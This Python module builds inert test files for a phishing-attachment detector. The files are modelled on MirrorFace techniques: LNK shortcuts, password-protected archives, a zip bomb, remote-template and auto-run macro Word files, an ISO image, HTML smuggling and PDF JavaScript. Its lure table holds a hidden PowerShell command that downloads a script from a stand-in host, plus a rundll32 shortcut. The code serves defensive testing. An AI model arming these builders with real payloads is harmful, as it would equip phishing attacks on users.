"""Generators of inert evidence files for tests and the demo: real, parseable file formats carrying
the *features* attackers use (a shortcut that would start PowerShell, a document with a remote
template, a password-protected ZIP, a disk image, HTML that assembles a file, a PDF with script) but no
working payload: commands point at documentation addresses (``example.invalid``, RFC 6761), payloads
are short text, executables have no code. Everything is built in memory and returned as bytes.
"""

from __future__ import annotations

import dataclasses
import io
import struct
import zipfile
import zlib
from collections.abc import Iterable, Mapping

import py7zr
import pycdlib
import pyzipper

from aptlink.analysis.cfbwriter import write_cfb

Members = Mapping[str, bytes] | Iterable[tuple[str, bytes]]

LNK_CLSID = bytes.fromhex("0114020000000000c000000000000046")
LNK_HAS_ID_LIST = 0x01
LNK_HAS_LINK_INFO = 0x02
LNK_HAS_NAME = 0x04
LNK_HAS_RELATIVE_PATH = 0x08
LNK_HAS_WORKING_DIR = 0x10
LNK_HAS_ARGUMENTS = 0x20
LNK_HAS_ICON = 0x40
LNK_IS_UNICODE = 0x80
MY_COMPUTER_CLSID = bytes.fromhex("e04fd020ea3a6910a2d808002b30309d")
DOS_DATE_2024 = (2024 - 1980) << 9 | 1 << 5 | 1
FILETIME_2024 = 133_485_408_000_000_000  # 2024-01-01T00:00:00Z in 100 ns ticks since 1601


def _items(members: Members) -> list[tuple[str, bytes]]:
    return list(members.items()) if isinstance(members, Mapping) else list(members)


# --- shortcuts ------------------------------------------------------------------------------------


def make_lnk(
    target: str,
    args: str = "",
    icon: str = "",
    *,
    working_dir: str = "",
    description: str = "",
    icon_index: int = 0,
    id_list: bool = False,
    link_info: bool = True,
) -> bytes:
    """A Windows shortcut (MS-SHLLINK) to ``target`` with ``args``, as LnkParse3 and Windows read it.

    The target is written as LinkInfo (``link_info``) and relative path, and with ``id_list`` also as
    a shell item ID list (My Computer > volume > folders > file), the only form many shortcuts carry.
    """
    strings = [
        (LNK_HAS_NAME, description),
        (LNK_HAS_RELATIVE_PATH, target if link_info else ""),
        (LNK_HAS_WORKING_DIR, working_dir),
        (LNK_HAS_ARGUMENTS, args),
        (LNK_HAS_ICON, icon),
    ]
    flags = (
        LNK_IS_UNICODE
        | (LNK_HAS_LINK_INFO if link_info else 0)
        | (LNK_HAS_ID_LIST if id_list else 0)
    )
    string_data = b""
    for flag, text in strings:
        if text:
            flags |= flag
            string_data += struct.pack("<H", len(text)) + text.encode("utf-16-le")
    body = (_lnk_id_list(target) if id_list else b"") + (_lnk_info(target) if link_info else b"")
    return _lnk_header(flags, icon_index) + body + string_data + struct.pack("<I", 0)


def _lnk_id_list(target: str) -> bytes:
    """Shell items for an absolute ``X:\\dir\\file`` path (ANSI names, no extension blocks)."""
    drive, _, rest = target.partition("\\")
    items = [struct.pack("<BB", 0x1F, 0x50) + MY_COMPUTER_CLSID]
    items.append(struct.pack("<B", 0x2F) + (drive + "\\").encode("latin-1").ljust(22, b"\x00"))
    parts = [p for p in rest.split("\\") if p]
    for index, part in enumerate(parts):
        kind = 0x32 if index == len(parts) - 1 else 0x31
        name = part.encode("latin-1", "replace") + b"\x00"
        name += b"\x00" * (len(name) % 2)
        items.append(struct.pack("<BBIHHH", kind, 0, 0, DOS_DATE_2024, 0, 0x20) + name)
    packed = b"".join(struct.pack("<H", len(item) + 2) + item for item in items) + b"\x00\x00"
    return struct.pack("<H", len(packed)) + packed


def _lnk_header(flags: int, icon_index: int) -> bytes:
    times = struct.pack("<QQQ", FILETIME_2024, FILETIME_2024, FILETIME_2024)
    tail = struct.pack("<IiIHHII", 0, icon_index, 7, 0, 0, 0, 0)  # size, icon, SW_SHOWMINNOACTIVE
    return struct.pack("<I", 0x4C) + LNK_CLSID + struct.pack("<II", flags, 0x20) + times + tail


def _lnk_info(target: str) -> bytes:
    """LinkInfo with a local base path; a Unicode copy too when the path is not plain Latin-1."""
    volume = struct.pack("<IIII", 17, 3, 0x1234ABCD, 16) + b"\x00"
    try:
        base, wide = target.encode("latin-1") + b"\x00", b""
    except UnicodeEncodeError:
        base, wide = (
            target.encode("latin-1", "replace") + b"\x00",
            target.encode("utf-16-le") + b"\x00\x00",
        )
    header_size = 0x24 if wide else 0x1C
    base_offset = header_size + len(volume)
    suffix_offset = base_offset + len(base)
    offsets = [header_size, base_offset, 0, suffix_offset]
    tail = volume + base + b"\x00"
    if wide:
        wide_offset = suffix_offset + 1
        offsets += [wide_offset, wide_offset + len(wide)]
        tail += wide + b"\x00\x00"
    size = header_size + len(tail)
    return struct.pack(f"<III{len(offsets)}I", size, header_size, 1, *offsets) + tail


# --- archives -------------------------------------------------------------------------------------


def make_zip(members: Members, password: str | None = None, *, aes: bool = True) -> bytes:
    """A ZIP of ``members``; with ``password``, AES-256 (pyzipper) or, ``aes=False``, ZipCrypto."""
    sink = io.BytesIO()
    if password is None:
        with zipfile.ZipFile(sink, "w", zipfile.ZIP_DEFLATED) as archive:
            for name, data in _items(members):
                # a fixed date, not the clock: the same members always give the same bytes
                info = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))
                archive.writestr(info, data, compress_type=zipfile.ZIP_DEFLATED)
        return sink.getvalue()
    if aes:
        with pyzipper.AESZipFile(
            sink, "w", compression=zipfile.ZIP_DEFLATED, encryption=pyzipper.WZ_AES
        ) as enc:
            enc.setpassword(password.encode("utf-8"))
            for name, data in _items(members):
                enc.writestr(name, data)
        return sink.getvalue()
    return _zipcrypto(_items(members), password.encode("utf-8"))


def _zipcrypto(members: list[tuple[str, bytes]], password: bytes) -> bytes:
    """Traditional PKWARE encryption, which the standard library can read but not write."""
    sink = io.BytesIO()
    with zipfile.ZipFile(sink, "w", zipfile.ZIP_STORED) as archive:
        for name, data in members:
            info = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))
            info.flag_bits |= 0x1
            info.compress_type = zipfile.ZIP_STORED
            crc = zlib.crc32(data)
            keys = _ZipCryptoKeys(password)
            check = bytes(11) + bytes([(crc >> 24) & 0xFF])
            body = keys.encrypt(check + data)
            info.CRC = crc
            # zipfile would compute a CRC of the ciphertext; write the stored bytes ourselves.
            _write_raw(archive, info, body, crc, len(data))
    return sink.getvalue()


def _write_raw(
    archive: zipfile.ZipFile, info: zipfile.ZipInfo, body: bytes, crc: int, size: int
) -> None:
    assert archive.fp is not None
    info.header_offset = archive.fp.tell()
    info.compress_size = len(body)
    info.file_size = size
    info.CRC = crc
    archive.fp.write(info.FileHeader())
    archive.fp.write(body)
    archive.start_dir = archive.fp.tell()
    archive.filelist.append(info)
    archive.NameToInfo[info.filename] = info


class _ZipCryptoKeys:
    def __init__(self, password: bytes) -> None:
        self.keys = [0x12345678, 0x23456789, 0x34567890]
        for byte in password:
            self._update(byte)

    def _update(self, byte: int) -> None:
        k0, k1, k2 = self.keys
        k0 = _crc_byte(k0, byte)
        k1 = ((k1 + (k0 & 0xFF)) * 134775813 + 1) & 0xFFFFFFFF
        k2 = _crc_byte(k2, (k1 >> 24) & 0xFF)
        self.keys = [k0, k1, k2]

    def encrypt(self, data: bytes) -> bytes:
        out = bytearray()
        for byte in data:
            temp = (self.keys[2] | 2) & 0xFFFF
            out.append(byte ^ (((temp * (temp ^ 1)) >> 8) & 0xFF))
            self._update(byte)
        return bytes(out)


def _crc_byte(crc: int, byte: int) -> int:
    return (zlib.crc32(bytes([byte]), crc ^ 0xFFFFFFFF) ^ 0xFFFFFFFF) & 0xFFFFFFFF


def make_7z(members: Members, password: str | None = None) -> bytes:
    """A 7z archive of ``members``; with ``password``, AES-encrypted content and names."""
    sink = io.BytesIO()
    with py7zr.SevenZipFile(
        sink, "w", password=password, header_encryption=password is not None
    ) as archive:
        for name, data in _items(members):
            archive.writestr(data, name)
    return sink.getvalue()


def make_rar(members: Members, *, compressed: bool = False) -> bytes:
    """A RAR 4 archive; members are stored (readable without unrar) unless ``compressed`` is set, in
    which case they are marked as compressed and only an unrar tool could unpack them."""
    blocks = [b"Rar!\x1a\x07\x00", _rar_block(0x73, 0, b"\x00" * 6)]
    for name, data in _items(members):
        raw = name.encode("utf-8")
        method = 0x33 if compressed else 0x30
        fields = struct.pack(
            "<IIBIIBBHI",
            len(data),
            len(data),
            2,
            zlib.crc32(data),
            0x58210000,
            29,
            method,
            len(raw),
            0x20,
        )
        blocks.append(_rar_block(0x74, 0x8000, fields + raw) + data)
    blocks.append(_rar_block(0x7B, 0x4000, b""))
    return b"".join(blocks)


def _rar_block(kind: int, flags: int, body: bytes) -> bytes:
    head = struct.pack("<BHH", kind, flags, 7 + len(body)) + body
    return struct.pack("<H", zlib.crc32(head) & 0xFFFF) + head


def make_nested_zip(depth: int, inner_name: str = "payload.txt", inner: bytes = b"inert") -> bytes:
    """ZIPs nested ``depth`` levels deep around one small file."""
    data, name = inner, inner_name
    for level in range(depth):
        data, name = make_zip({name: data}), f"level{depth - level - 1}.zip"
    return data


def make_zip_bomb(member_bytes: int, name: str = "zeros.bin") -> bytes:
    """One member of ``member_bytes`` zero bytes, streamed into the archive (a high-ratio bomb)."""
    sink = io.BytesIO()
    block = bytes(1 << 20)
    with (
        zipfile.ZipFile(sink, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive,
        archive.open(name, "w", force_zip64=member_bytes > 0x7FFFFFFF) as fh,
    ):
        left = member_bytes
        while left > 0:
            fh.write(block[: min(left, len(block))])
            left -= len(block)
    return sink.getvalue()


# --- documents ------------------------------------------------------------------------------------

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
    '<Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/>'
    '<Override PartName="/docProps/core.xml" ContentType="application/vnd.openxmlformats-package.core-properties+xml"/>'
    "</Types>"
)
ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>'
    '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties" Target="docProps/core.xml"/>'
    "</Relationships>"
)
DOCUMENT_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/settings" Target="settings.xml"/>'
    "</Relationships>"
)
SETTINGS_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="{url}" TargetMode="External"/>'
    "</Relationships>"
)
W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def make_docx(remote_template_url: str | None = None, *, text: str = "", author: str = "") -> bytes:
    """A minimal Word document; with ``remote_template_url``, a remote template (T1221) in settings."""
    template = '<w:attachedTemplate r:id="rId1"/>' if remote_template_url else ""
    parts = {
        "[Content_Types].xml": CONTENT_TYPES,
        "_rels/.rels": ROOT_RELS,
        "word/_rels/document.xml.rels": DOCUMENT_RELS,
        "word/document.xml": (
            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:document xmlns:w="{W_NS}">'
            f"<w:body><w:p><w:r><w:t>{_xml(text)}</w:t></w:r></w:p></w:body></w:document>"
        ),
        "word/settings.xml": (
            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            f'<w:settings xmlns:w="{W_NS}" xmlns:r="{R_NS}">{template}</w:settings>'
        ),
        "docProps/core.xml": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<cp:coreProperties '
            'xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" '
            f'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator>{_xml(author)}</dc:creator>'
            "</cp:coreProperties>"
        ),
    }
    if remote_template_url:
        parts["word/_rels/settings.xml.rels"] = SETTINGS_RELS.format(url=_xml(remote_template_url))
    return make_zip({name: body.encode("utf-8") for name, body in parts.items()})


def _xml(text: str) -> str:
    return (
        text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")
    )


# --- disk images, HTML, PDF, executables ----------------------------------------------------------


def make_iso(files: Members, volume: str = "DOCS") -> bytes:
    """An ISO 9660 image with Joliet names holding ``files`` (in the root directory)."""
    iso = pycdlib.PyCdlib()
    iso.new(joliet=3, vol_ident=volume)
    for index, (name, data) in enumerate(_items(files)):
        iso.add_fp(io.BytesIO(data), len(data), f"/F{index}.;1", joliet_path="/" + name[:64])
    sink = io.BytesIO()
    iso.write_fp(sink)
    iso.close()
    return sink.getvalue()


def make_html_smuggling(payload: bytes, filename: str = "document.zip") -> bytes:
    """HTML whose script decodes ``payload`` from base64 and offers it as a download (T1027.006)."""
    import base64

    encoded = base64.b64encode(payload).decode("ascii")
    return (
        "<!DOCTYPE html><html><body><p>Loading document...</p><script>\n"
        f'var b64 = "{encoded}";\n'
        "var bin = atob(b64); var bytes = new Uint8Array(bin.length);\n"
        "for (var i = 0; i < bin.length; i++) { bytes[i] = bin.charCodeAt(i); }\n"
        "var blob = new Blob([bytes], {type: 'application/octet-stream'});\n"
        "var a = document.createElement('a'); a.href = URL.createObjectURL(blob);\n"
        f"a.download = '{filename}'; document.body.appendChild(a); a.click();\n"
        "</script></body></html>\n"
    ).encode()


def make_pdf(
    *,
    javascript: str | None = None,
    launch: str | None = None,
    uri: str | None = None,
    embedded: tuple[str, bytes] | None = None,
    text: str = "Hello",
) -> bytes:
    """A small PDF, optionally with an OpenAction JavaScript, a Launch action, a URI link or an
    embedded file (Flate-compressed)."""
    objects: list[bytes] = []
    action = ""
    if javascript is not None:
        action = f"/OpenAction << /S /JavaScript /JS ({_pdf_text(javascript)}) >>"
    elif launch is not None:
        action = f"/OpenAction << /S /Launch /F ({_pdf_text(launch)}) >>"
    names = ""
    if embedded is not None:
        names = "/Names << /EmbeddedFiles << /Names [(file) 6 0 R] >> >>"
    objects.append(f"<< /Type /Catalog /Pages 2 0 R {action} {names} >>".encode())
    objects.append(b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
    annots = "/Annots [5 0 R]" if uri else ""
    objects.append(
        f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R {annots} >>".encode()
    )
    stream = f"BT /F1 12 Tf 20 100 Td ({_pdf_text(text)}) Tj ET".encode()
    objects.append(b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream")
    link = f"<< /Type /Annot /Subtype /Link /Rect [0 0 200 200] /A << /S /URI /URI ({_pdf_text(uri or '')}) >> >>"
    objects.append(link.encode())
    if embedded is not None:
        name, data = embedded
        objects.append(
            f"<< /Type /Filespec /F ({_pdf_text(name)}) /UF ({_pdf_text(name)}) /EF << /F 7 0 R >> >>".encode()
        )
        packed = zlib.compress(data)
        objects.append(
            b"<< /Type /EmbeddedFile /Filter /FlateDecode /Length %d >>\nstream\n" % len(packed)
            + packed
            + b"\nendstream"
        )
    return _pdf_file(objects)


def _pdf_text(text: str) -> str:
    return text.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")


def _pdf_file(objects: list[bytes]) -> bytes:
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % off for off in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def make_pe(overlay: bytes = b"", *, dll: bool = False) -> bytes:
    """A PE32 file with one empty section and no code (it cannot run), plus ``overlay`` after the
    image, as self-extracting archives carry their payload."""
    dos = b"MZ" + bytes(58) + struct.pack("<I", 0x40)
    characteristics = 0x0102 | (0x2000 if dll else 0)
    coff = b"PE\x00\x00" + struct.pack("<HHIIIHH", 0x14C, 1, 0, 0, 0, 224, characteristics)
    optional = struct.pack("<HBB", 0x10B, 14, 0) + bytes(220)
    section = b".text\x00\x00\x00" + struct.pack(
        "<IIIIIIHHI", 0x200, 0x1000, 0x200, 0x200, 0, 0, 0, 0, 0x60000020
    )
    headers = dos + coff + optional + section
    image = headers + bytes(0x200 - len(headers)) + bytes(0x200)
    return image + overlay


# --- VBA projects (MS-OVBA) -----------------------------------------------------------------------

VBA_CHUNK = 4096
# A literal-only compressed chunk grows by one flag byte per 8 bytes; over this it would not fit.
VBA_LITERAL_MAX = 3640
DOCUMENT_MODULE_ATTRIBUTES = (
    'Attribute VB_Name = "{name}"\r\nAttribute VB_Base = "1Normal.ThisDocument"\r\n'
    "Attribute VB_GlobalNameSpace = False\r\nAttribute VB_Creatable = False\r\n"
    "Attribute VB_PredeclaredId = True\r\nAttribute VB_Exposed = True\r\n"
    "Attribute VB_TemplateDerived = True\r\nAttribute VB_Customizable = True\r\n"
)


def ovba_compress(data: bytes) -> bytes:
    """MS-OVBA 2.4.1 compression: raw chunks for full 4096-byte blocks, a literal-only chunk for the
    tail. Valid for every decompressor, though larger than Office's own output."""
    out = bytearray(b"\x01")
    full, tail = divmod(len(data), VBA_CHUNK)
    for index in range(full):
        out += (
            struct.pack("<H", 0x3000 | (VBA_CHUNK - 1))
            + data[index * VBA_CHUNK : (index + 1) * VBA_CHUNK]
        )
    rest = data[full * VBA_CHUNK :]
    if rest:
        if tail > VBA_LITERAL_MAX:
            raise ValueError(
                f"a VBA stream tail of {tail} bytes needs copy tokens; keep sources shorter"
            )
        body = b"".join(b"\x00" + rest[i : i + 8] for i in range(0, len(rest), 8))
        out += struct.pack("<H", 0xB000 | (len(body) + 2 - 3)) + body
    return bytes(out)


def _record(rec_id: int, data: bytes) -> bytes:
    return struct.pack("<HI", rec_id, len(data)) + data


def _vba_dir(modules: list[tuple[str, bool]], codepage: int) -> bytes:
    out = _record(0x01, struct.pack("<I", 1))  # SYSKIND: 32-bit Windows
    out += _record(0x02, struct.pack("<I", 0x409)) + _record(0x14, struct.pack("<I", 0x409))
    out += _record(0x03, struct.pack("<H", codepage)) + _record(0x04, b"Project")
    out += _record(0x05, b"") + _record(0x40, b"")  # doc string, and its unicode form
    out += _record(0x06, b"") + _record(0x3D, b"")  # help file paths
    out += _record(0x07, struct.pack("<I", 0)) + _record(0x08, struct.pack("<I", 0))
    out += struct.pack("<HIIH", 0x09, 4, 1, 0)  # PROJECTVERSION
    out += _record(0x0C, b"") + _record(0x3C, b"")  # constants
    out += struct.pack("<HIH", 0x0F, 2, len(modules)) + _record(0x13, struct.pack("<H", 0xFFFF))
    for name, is_document in modules:
        raw, wide = name.encode("latin-1"), name.encode("utf-16-le")
        out += _record(0x19, raw) + _record(0x47, wide) + _record(0x1A, raw) + _record(0x32, wide)
        out += _record(0x1C, b"") + _record(0x48, b"") + _record(0x31, struct.pack("<I", 0))
        out += _record(0x1E, struct.pack("<I", 0)) + _record(0x2C, struct.pack("<H", 0xFFFF))
        out += struct.pack("<HI", 0x22 if is_document else 0x21, 0) + struct.pack("<HI", 0x2B, 0)
    return out + struct.pack("<HI", 0x10, 0)


def make_vba_project(modules: Mapping[str, str], *, document_module: str = "ThisDocument") -> bytes:
    """A ``vbaProject.bin`` (an OLE file per MS-OVBA) holding ``modules`` (name -> VBA source, without
    attributes); the module named ``document_module`` is the document's own class module."""
    listing = [(name, name == document_module) for name in modules]
    streams: dict[str, bytes] = {"VBA/_VBA_PROJECT": b"\xcc\x61\xff\xff\x00\x00\x00"}
    project = ['ID="{00000000-0000-0000-0000-000000000000}"']
    for name, is_document in listing:
        head = (
            DOCUMENT_MODULE_ATTRIBUTES.format(name=name)
            if is_document
            else f'Attribute VB_Name = "{name}"\r\n'
        )
        source = head + modules[name].replace("\r\n", "\n").replace("\n", "\r\n")
        streams[f"VBA/{name}"] = ovba_compress(source.encode("cp1252", "replace"))
        project.append(f"Document={name}/&H00000000" if is_document else f"Module={name}")
    project += [
        'Name="Project"',
        'HelpContextID="0"',
        'VersionCompatible32="393222000"',
        "",
        "[Host Extender Info]",
    ]
    project += ["&H00000001={3832D640-CF90-11CF-8E43-00A0C911005A};VBE;&H00000000", ""]
    streams["PROJECT"] = "\r\n".join(project).encode("latin-1") + b"\r\n"
    streams["VBA/dir"] = ovba_compress(_vba_dir(listing, 1252))
    return write_cfb(streams)


DOCM_CONTENT_TYPES = CONTENT_TYPES.replace(
    "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
    "application/vnd.ms-word.document.macroEnabled.main+xml",
).replace(
    '<Default Extension="xml"',
    '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Default Extension="xml"',
)
VBA_RELATIONSHIP = (
    '<Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
    'Target="vbaProject.bin"/>'
)


def make_docm(macro: str, *, auto_open: bool = True, text: str = "", author: str = "") -> bytes:
    """A macro-enabled Word document whose ``ThisDocument`` module holds ``macro``; with
    ``auto_open`` the code is wrapped in ``Document_Open`` so it runs when the document opens."""
    body = f"Private Sub Document_Open()\n{macro}\nEnd Sub\n" if auto_open else macro
    with zipfile.ZipFile(io.BytesIO(make_docx(text=text, author=author))) as plain:
        parts = {info.filename: plain.read(info) for info in plain.infolist()}
    parts["[Content_Types].xml"] = DOCM_CONTENT_TYPES.encode("utf-8")
    rels = parts["word/_rels/document.xml.rels"].decode("utf-8")
    parts["word/_rels/document.xml.rels"] = rels.replace(
        "</Relationships>", VBA_RELATIONSHIP + "</Relationships>"
    ).encode()
    parts["word/vbaProject.bin"] = make_vba_project({"ThisDocument": body})
    return make_zip(parts)


# --- a catalogue of MirrorFace-style attachments --------------------------------------------------


@dataclasses.dataclass(frozen=True, slots=True)
class Lure:
    """An inert attachment in the style of a documented technique, what the mail body should say
    about it (the password line, if any) and the reason codes analysis must find."""

    name: str
    data: bytes
    technique: str
    expect: tuple[str, ...]
    password: str | None = None
    body_line: str = ""


POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
WORD_ICON = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"
DEMO_URL = "https://example.invalid/aptlink-demo"


def lure_attachments() -> list[Lure]:
    """Attachments shaped like MirrorFace's (docs/mirrorface-facts.md): ZIPs with a password in the
    body, ``.docx.lnk`` shortcuts, SFX posing as documents, remote templates, macro documents,
    disk images, HTML smuggling. Each is inert (commands name ``example.invalid``).

    Long because it is a table: one entry per lure, read top to bottom."""
    lnk = make_lnk(POWERSHELL, f"-w hidden -c iwr {DEMO_URL}/a.ps1", WORD_ICON)
    rundll = make_lnk(r"C:\Windows\System32\rundll32.exe", r"..\data\doc.dll,Start", WORD_ICON)
    macro = f'MsgBox "aptlink demo"\nSet x = CreateObject("MSXML2.XMLHTTP")\nx.Open "GET", "{DEMO_URL}/m", False'
    return [
        Lure(
            "国際情勢と日本外交.zip",
            make_zip({"国際情勢と日本外交.docx.lnk": lnk}, password="nichibei2024"),
            "T1204.002",
            ("archive-encrypted", "archive-password-in-mail", "double-extension", "lnk-powershell"),
            "nichibei2024",
            "パスワード：nichibei2024",
        ),
        Lure(
            "取材のご依頼.zip",
            make_zip({"取材のご依頼.docx.lnk": rundll}),
            "T1218.011",
            ("double-extension", "lnk-rundll32", "lnk-document-icon"),
        ),
        Lure(
            "The EXPO Exhibition in Japan in 2025.zip",
            make_zip({"The EXPO Exhibition in Japan in 2025.docx.lnk": lnk}),
            "T1059.001",
            ("double-extension", "lnk-powershell"),
        ),
        Lure(
            "panelists.7z",
            make_7z({"panelists.docx.lnk": lnk}, password="Kenkyu#7"),
            "T1027.013",
            ("archive-encrypted", "lnk-powershell"),
            "Kenkyu#7",
            "The password for the attached file is Kenkyu#7",
        ),
        Lure(
            "【参考】選挙管理委員会宛文書.zip",
            make_zip(
                {"【参考】選挙管理委員会宛文書.docx.exe": make_pe(make_zip({"a.docx": b"x"}))}
            ),
            "T1036.007",
            ("double-extension", "executable", "sfx-archive"),
        ),
        Lure(
            "日米同盟勉強会のご案内.docx",
            make_docx(f"{DEMO_URL}/template.dotm", author="山田太郎"),
            "T1221",
            ("remote-template",),
        ),
        Lure(
            "台湾海峡情勢.docm",
            make_docm(macro, author="山田太郎"),
            "T1204.002",
            ("macro-vba", "macro-autoexec", "macro-suspicious"),
        ),
        Lure(
            "Indo-Pacific.iso",
            make_iso({"Indo-Pacific.docx.lnk": lnk}),
            "T1553.005",
            ("container-image", "lnk-powershell"),
        ),
        Lure(
            "invoice.html",
            make_html_smuggling(make_zip({"invoice.docx.lnk": lnk})),
            "T1027.006",
            ("html-smuggling",),
        ),
        Lure(
            "resume.pdf",
            make_pdf(javascript="app.alert('aptlink demo')"),
            "T1059.007",
            ("pdf-javascript",),
        ),
    ]


# --- RTF with embedded objects --------------------------------------------------------------------


def ole_package(filename: str, data: bytes) -> bytes:
    """An OLE Package native stream (MS-OLEDS 2.3.6, without its size prefix) carrying ``data``."""
    path = f"C:\\Users\\Public\\{filename}".encode("latin-1", "replace") + b"\x00"
    name = filename.encode("latin-1", "replace") + b"\x00"
    temp = (
        f"C:\\Users\\Public\\AppData\\Local\\Temp\\{filename}".encode("latin-1", "replace")
        + b"\x00"
    )
    return (
        struct.pack("<H", 2)
        + name
        + path
        + struct.pack("<II", 0x00030000, len(temp))
        + temp
        + struct.pack("<I", len(data))
        + data
    )


def make_rtf(
    embedded: tuple[str, bytes] | None = None, *, class_name: str = "Package", text: str = "Hello"
) -> bytes:
    """An RTF document; with ``embedded`` an OLE 1.0 object of ``class_name`` (a Package carries the
    file itself; other classes, such as Equation.3, carry the bytes as native data)."""
    body = b""
    if embedded is not None:
        filename, data = embedded
        native = ole_package(filename, data) if class_name == "Package" else data
        cls = class_name.encode("latin-1") + b"\x00"
        ole1 = struct.pack("<II", 0x00000501, 2) + struct.pack("<I", len(cls)) + cls
        ole1 += struct.pack("<II", 0, 0) + struct.pack("<I", len(native)) + native
        body = (
            b"{\\object\\objemb{\\*\\objclass "
            + class_name.encode()
            + b"}{\\*\\objdata "
            + ole1.hex().encode()
            + b"}}"
        )
    return (
        b"{\\rtf1\\ansi{\\fonttbl{\\f0 Arial;}}\\f0 "
        + text.encode("latin-1", "replace")
        + b"\\par "
        + body
        + b"}"
    )
